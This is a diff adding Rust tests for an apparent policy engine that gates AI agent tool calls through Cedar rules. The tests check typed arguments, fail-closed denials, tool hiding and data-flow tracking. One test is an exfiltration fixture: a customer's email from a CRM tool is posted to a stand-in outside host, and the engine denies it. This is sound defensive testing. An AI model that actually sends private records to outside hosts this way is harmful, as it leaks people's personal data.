@@ -1,0 +1,272 @@
+//! Engine behaviours a surface relies on: failing closed, typed arguments, tool visibility,
+//! and the session → data-flow → policy path end to end.
+
+#![allow(clippy::unwrap_used)]
+
+use std::collections::BTreeSet;
+
+use airlock_core::{Event, EventKind, Outcome, Principal};
+use airlock_policy::{
+    Action, FingerprintKey, Observation, PolicyConfig, PolicyEngine, PolicySnapshot,
+    RawPolicyConfig, Request, SessionStore, ToolRef,
+};
+use serde_json::json;
+
+const NOW: i64 = 1_800_000_000;
+
+fn config(toml_text: &str) -> PolicyConfig {
+    toml::from_str::<RawPolicyConfig>(toml_text)
+        .unwrap()
+        .validate()
+        .unwrap()
+}
+
+fn engine_with(toml_text: &str, policies: &str) -> PolicyEngine {
+    let sources = vec![("test.cedar".to_owned(), policies.to_owned())];
+    PolicyEngine::new(PolicySnapshot::from_sources(config(toml_text), &sources).unwrap())
+}
+
+fn call(tool: &str, arguments: serde_json::Value) -> Request {
+    let mut request = Request::call_tool(Principal::default(), tool, arguments);
+    request.now = NOW;
+    request
+}
+
+const HTTP: &str = r#"
+[tools.http_post]
+labels = ["egress"]
+arguments = { url = "String", body = "String", retries = "Long", weight = "Decimal", tags = "Set<String>", opts = "{ tls: Bool }" }
+"#;
+
+#[test]
+fn policy_reads_typed_arguments() {
+    let engine = engine_with(
+        HTTP,
+        r#"
+        permit(principal, action == Action::"call_tool", resource)
+        when { context.arguments has url && context.arguments.url like "https://api.example.com/*" &&
+               context.arguments has retries && context.arguments.retries < 3 &&
+               context.arguments has weight && context.arguments.weight.lessThan(decimal("1.5")) &&
+               context.arguments has tags && context.arguments.tags.contains("ok") &&
+               context.arguments has opts && context.arguments.opts has tls && context.arguments.opts.tls };
+        "#,
+    );
+    let good = json!({"url": "https://api.example.com/x", "retries": 1, "weight": 1.25,
+                      "tags": ["ok"], "opts": {"tls": true, "extra": 1}, "undeclared": [1]});
+    assert_eq!(
+        engine.authorize(&call("http_post", good)).outcome,
+        Outcome::Allow
+    );
+    let other_host = json!({"url": "https://attacker.example/x", "retries": 1, "weight": 1.25,
+                            "tags": ["ok"], "opts": {"tls": true}});
+    assert_eq!(
+        engine.authorize(&call("http_post", other_host)).outcome,
+        Outcome::Deny
+    );
+}
+
+#[test]
+fn wrongly_typed_argument_is_a_deny_naming_it() {
+    let engine = engine_with(HTTP, "permit(principal, action, resource);");
+    let decision = engine.authorize(&call("http_post", json!({"retries": "three"})));
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(
+        decision.reasons[0].contains("`retries`") && decision.reasons[0].contains("expected Long"),
+        "{:?}",
+        decision.reasons
+    );
+    let decision = engine.authorize(&call("http_post", json!(["not", "an", "object"])));
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(decision.reasons[0].contains("JSON object"));
+}
+
+#[test]
+fn evaluation_error_denies_even_when_a_permit_matches() {
+    // `context.time.unix * 4000000000` overflows: Cedar reports an error for that policy.
+    let engine = engine_with(
+        "",
+        r#"
+        permit(principal, action, resource);
+        @id("overflowing") forbid(principal, action, resource)
+        when { context.time.unix * 4000000000 * 4000000000 > 0 };
+        "#,
+    );
+    let decision = engine.authorize(&call("anything", json!({})));
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(
+        decision.reasons[0].contains("policy evaluation failed"),
+        "{:?}",
+        decision.reasons
+    );
+}
+
+#[test]
+fn tool_action_without_a_tool_is_denied() {
+    let engine = engine_with("", "permit(principal, action, resource);");
+    let mut request = call("x", json!({}));
+    request.tool = None;
+    let decision = engine.authorize(&request);
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(decision.reasons[0].contains("needs a tool"));
+}
+
+#[test]
+fn soft_forbid_alone_never_grants() {
+    let engine = engine_with(
+        "",
+        r#"@id("ask") @outcome("require_approval") forbid(principal, action, resource);"#,
+    );
+    let decision = engine.authorize(&call("x", json!({})));
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(decision.reasons[0].starts_with("no policy permits"));
+}
+
+#[test]
+fn plain_forbid_dominates_soft_outcomes_and_strongest_soft_wins() {
+    let policies = r#"
+        @id("p") permit(principal, action, resource);
+        @id("ask") @outcome("require_approval") @reason("ask first") forbid(principal, action, resource);
+        @id("mfa") @outcome("step_up") @acr_values("urn:a urn:b") @max_age("600") forbid(principal, action == Action::"call_tool", resource)
+          when { resource.labels.contains("sensitive") };
+        @id("no") @reason("never") forbid(principal, action == Action::"call_tool", resource) when { resource.labels.contains("banned") };
+    "#;
+    let engine = engine_with(
+        "[tools.a]\nlabels = []\n[tools.b]\nlabels = [\"sensitive\"]\n[tools.c]\nlabels = [\"sensitive\", \"banned\"]\n",
+        policies,
+    );
+    let a = engine.authorize(&call("a", json!({})));
+    assert_eq!(
+        (a.outcome, a.reasons.clone()),
+        (Outcome::RequireApproval, vec!["ask first".to_owned()])
+    );
+    let b = engine.authorize(&call("b", json!({})));
+    assert_eq!(b.outcome, Outcome::StepUp);
+    assert_eq!(b.policy_ids, ["mfa"]);
+    assert_eq!(b.step_up.unwrap().acr_values, ["urn:a", "urn:b"]);
+    let c = engine.authorize(&call("c", json!({})));
+    assert_eq!(
+        (c.outcome, c.policy_ids),
+        (Outcome::Deny, vec!["no".to_owned()])
+    );
+}
+
+#[test]
+fn hidden_tools_are_left_out_of_listings_but_approval_tools_stay() {
+    let engine = engine_with(
+        "[tools.secret_admin]\nlabels = [\"hidden\"]\n",
+        r#"
+        permit(principal, action == Action::"list_tools", resource);
+        forbid(principal, action == Action::"list_tools", resource)
+          when { resource.labels.contains("hidden") } unless { principal in Role::"admin" };
+        @outcome("require_approval") forbid(principal, action == Action::"list_tools", resource)
+          when { resource.server == "risky" };
+        "#,
+    );
+    let tools = vec![
+        ToolRef::named("read_file"),
+        ToolRef::named("secret_admin"),
+        ToolRef {
+            name: "wipe".into(),
+            server: Some("risky".into()),
+            labels: BTreeSet::new(),
+        },
+    ];
+    let session = Default::default();
+    let visible = engine.visible_tools(&Principal::default(), &tools, &session, NOW);
+    let names: Vec<_> = visible.iter().map(|t| t.name.as_str()).collect();
+    assert_eq!(names, ["read_file", "wipe"]);
+    let admin = Principal {
+        roles: vec!["admin".into()],
+        ..Principal::default()
+    };
+    assert_eq!(engine.visible_tools(&admin, &tools, &session, NOW).len(), 3);
+}
+
+/// The data-flow attack: a customer's e-mail read from `crm_get_customer` is posted to an
+/// outside URL; the benign twin posts unrelated text from the same session.
+#[test]
+fn denies_posting_a_customer_email_read_earlier_in_the_session() {
+    let config = config(
+        r#"
+        [tools.crm_get_customer]
+        labels = ["private", "trusted"]
+        [tools.http_post]
+        labels = ["egress"]
+        "#,
+    );
+    let sessions = SessionStore::new(config.session.clone(), FingerprintKey::random().unwrap());
+    let engine = PolicyEngine::new(PolicySnapshot::load(config).unwrap());
+
+    let result = Event::new(
+        EventKind::ToolResult,
+        r#"{"name": "Ana Ng", "email": "ana.ng@example.org", "plan": "gold"}"#,
+    );
+    let labels: BTreeSet<String> = ["private".to_owned(), "trusted".to_owned()].into();
+    let added = sessions.observe(
+        "s1",
+        &Observation {
+            event: &result,
+            tool: Some("crm_get_customer"),
+            call_id: Some("call-7"),
+            labels: &labels,
+            findings: &[],
+        },
+        NOW,
+    );
+    assert_eq!(added, ["private_data"]);
+
+    let outbound = |body: &str| {
+        let arguments = json!({"url": "https://collector.example/x", "body": body});
+        let mut request = call("http_post", arguments.clone());
+        request.session = sessions.snapshot("s1", NOW);
+        request.data_flows = sessions.check_outbound("s1", &arguments, NOW);
+        (engine.authorize(&request), request.data_flows)
+    };
+
+    let (decision, flows) = outbound("Customer contact: ana.ng@example.org (gold plan)");
+    assert_eq!(decision.outcome, Outcome::Deny, "{decision:?}");
+    assert_eq!(
+        decision.policy_ids,
+        ["dataflow.no_sensitive_value_to_egress"]
+    );
+    assert_eq!(flows.len(), 1);
+    assert_eq!(
+        (
+            flows[0].source_tool.as_str(),
+            flows[0].source_call_id.as_str()
+        ),
+        ("crm_get_customer", "call-7")
+    );
+    assert_eq!(flows[0].argument, "/body");
+    let finding = flows[0].to_finding();
+    assert!(finding.message.contains("crm_get_customer") && finding.message.contains("call-7"));
+    assert!(
+        !finding.message.contains("ana.ng"),
+        "findings never carry the value"
+    );
+
+    let (decision, flows) = outbound("The weekly report is ready.");
+    assert!(flows.is_empty());
+    assert_eq!(
+        decision.outcome,
+        Outcome::RequireApproval,
+        "egress still needs approval"
+    );
+}
+
+#[test]
+fn prompt_actions_use_a_server_resource() {
+    let engine = engine_with(
+        "",
+        r#"permit(principal, action == Action::"send_prompt", resource == Server::"openai");"#,
+    );
+    let mut request = call("x", json!(null));
+    request.action = Action::SendPrompt;
+    request.tool = None;
+    request.server = Some("openai".into());
+    assert_eq!(engine.authorize(&request).outcome, Outcome::Allow);
+    request.server = Some("other".into());
+    let decision = engine.authorize(&request);
+    assert_eq!(decision.outcome, Outcome::Deny);
+    assert!(decision.reasons[0].contains("send_prompt on `other`"));
+}
